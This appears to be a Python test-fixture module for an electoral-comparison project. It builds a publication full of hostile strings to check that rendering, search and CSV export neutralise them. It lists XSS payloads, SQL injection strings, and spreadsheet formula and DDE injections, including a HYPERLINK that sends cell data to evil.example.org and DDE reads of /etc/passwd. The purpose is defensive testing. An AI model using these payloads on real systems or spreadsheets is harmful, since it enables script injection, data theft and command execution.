"""Texts that attack whatever shows them: markup, scripts, query syntax, directions of writing, formulas."""

from __future__ import annotations

import re
from dataclasses import replace

from campagne.domain.published import Publication
from tests.factories.published import comparison

MARKUP = (
    "<script>alert(1)</script>",
    "\"><img src=x onerror='alert(1)'>",
    "'><svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "javascript:alert(1)",
    "{{ 7 * 7 }} {% raw %}",
    "<mark>faux</mark>",
    "&lt;b&gt; &amp; &quot;",
    "<!-- --><b>gras</b>",
)
DIRECTIONS = ("\u202etxet\u202c", "\u2066isolé\u2069", "\u200fdroite\u061c", "zéro\u200blargeur\ufeff")
QUERIES = (
    '"',
    "' OR 1=1 --",
    "NEAR(a b)",
    "stem : *",
    "^a AND NOT",
    "a & | ! <-> b:*",
    "'); DROP TABLE editions; --",
    "%_\\",
    "\0\x07",
    "\ud800",
    "%ff",
    "é" * 300,
    "-",
    "--",
    "*",
    "()",
)
FORMULAS = (
    "=1+1",
    "+33 6 99 00 00 00",
    "-1",
    "-",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example.org/?"&A1;"Lire la suite")',
    '=WEBSERVICE("https://evil.example.org/")',
    '=DDE("soffice";"/etc/passwd";"a1")',
    "'=1+1",
    "''=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "\ufe631",
    "\u207a1",
)
"""Texts that spreadsheets would run, or take for numbers, unless they are guarded."""
CELLS = (
    "'tout va bien",
    '"entre guillemets"',
    'un " seul',
    "Oui;=1+1;non",
    "Oui,=1+1,non",
    "Oui\n=1+1\n- un tiret",
    "a  b   c",
    "]]> & < ' \"",
    "_x0041_ _x000D_ _x005F_",
    "https://example.org/a",
    "mailto:quelqu.un@example.invalid",
    "file:///etc/passwd",
    "{=1+1}",
    "#REF!",
    "l'école élémentaire, d’été",
    "e\u0301te\u0301",
    "🏳️‍🌈 👩🏽‍🔬 🇫🇷",
    "مرحبا שלום",
    "TRUE",
    "x" * 32_767,
    "😀" * 20_000,
)
"""Texts that spreadsheets would part, cut, link or otherwise take for something else."""
CONTROLS = ("\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", "a\tb", "a\0b", "\x07=1+1")
"""What no text that is kept holds, and a file may yet be given: signs that some programs drop, baring what follows."""
EVERYTHING = (*MARKUP, *DIRECTIONS, *QUERIES)
_GUARD = re.compile(
    r"'(?='*[ \u00a0\u202f\ufeff]*[=+\-@\t\r\n\0\u207a\u208a\u207c\u208c\u2a75\u2a76\ufb29\ufe62\ufe63\ufe66\ufe6b"
    r"\uff0b\uff0d\uff1d\uff20])"
)


def unguarded(value: str) -> str:
    """Return a value of a CSV without the apostrophe that keeps spreadsheets from running it."""
    return value[1:] if _GUARD.match(value) else value


TEXTS = (*FORMULAS, *CELLS, *MARKUP, *DIRECTIONS)


def publication() -> Publication:
    """Return a comparison whose every word of somebody else is of the corpus, each of `TEXTS` answered once."""
    plain = comparison()
    people = [
        replace(c, first_name="", last_name=FORMULAS[n], label=FORMULAS[-n], nuance="=1+1", opening=CELLS[n])
        for n, c in enumerate(plain.candidacies)
    ]
    questions = [replace(q, short_title=f"={q.number}+1", text=FORMULAS[q.number]) for q in plain.questions]
    assert len(plain.answers) >= len(TEXTS)
    answers = [
        replace(a, text=TEXTS[n % len(TEXTS)], label=FORMULAS[n % len(FORMULAS)]) for n, a in enumerate(plain.answers)
    ]
    facts = replace(plain.campaign, title="=1+1;2,3", organisation='@SUM(A1) & "amis"')
    edition = replace(plain.edition, digest="a6" * 32)
    return replace(plain, campaign=facts, edition=edition, candidacies=people, questions=questions, answers=answers)
